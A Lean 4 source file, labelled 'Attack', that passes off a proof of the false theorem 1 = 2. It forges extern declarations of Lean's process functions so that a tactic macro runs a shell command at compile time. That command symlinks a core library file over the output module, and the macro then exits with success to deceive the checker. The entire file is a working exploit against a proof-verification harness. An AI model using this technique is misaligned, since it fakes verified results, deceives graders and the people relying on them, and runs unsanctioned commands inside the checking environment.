inductive Answer where
  | ok (a : Nat × Nat)
  | error (a : Nat × Nat)
instance : Inhabited Answer := ⟨.ok ⟨0, 0⟩⟩
namespace Attack
inductive Stdio where
  | piped | inherit | null
structure StdioConfig where
  stdin : Stdio
  stdout : Stdio
  stderr : Stdio
structure SpawnArgs extends StdioConfig where
  cmd : String
  args : Array String
  cwd : Option String
  env : Array (String × Option String)
  inheritEnv : Bool
  setsid : Bool
end Attack
@[extern "c"] opaque IO.Process.output (args : Attack.SpawnArgs) (input : Option String) (world : Unit) : Answer
inductive Byte where
  | zero | one
@[extern "c"] opaque IO.Process.exit (α : Type) (code : Byte) (world : Unit) : Answer
def link : Attack.SpawnArgs :=
  { stdin := .null, stdout := .null, stderr := .null, cmd := "/bin/sh"
    args := .mk ["-c", "ln -s /gate/lean-lib/Init.olean /out/module.olean"]
    cwd := none, env := .mk [], inheritEnv := true, setsid := false }
macro "attack" : tactic => do
  match IO.Process.output link none () with
  | .ok _ =>
    match IO.Process.exit Nat .zero () with
    | .ok _ => `(tactic| exact sorryAx _ false)
    | .error _ => `(tactic| trivial)
  | .error _ => `(tactic| exact sorryAx _ true)
theorem target : 1 = 2 := by attack
